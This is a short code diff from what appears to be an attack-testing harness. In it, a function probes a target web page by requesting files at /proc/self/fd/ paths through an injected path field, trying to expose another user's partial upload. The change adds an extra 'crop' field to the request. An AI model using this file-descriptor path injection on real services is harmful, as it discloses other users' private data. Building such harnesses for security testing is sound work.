@@ -156,7 +156,8 @@ async def half(target: Target) -> AttackResult:
         visitor = Visitor(client, target.page)
         await visitor.consent()
         for number in DESCRIPTORS:
-            answer = await visitor.ask(event, files_as(target, event, {"path": f"/proc/self/fd/{number}"}))
+            file = files_as(target, event, {"path": f"/proc/self/fd/{number}"})
+            answer = await visitor.ask(event, file | {target.page.named("crop") or 0: "none"})
             if await shows_secret(client, answer):
                 return AttackResult(True, f"another's half upload was shown from descriptor {number}")
     return AttackResult(False, "no descriptor was read")
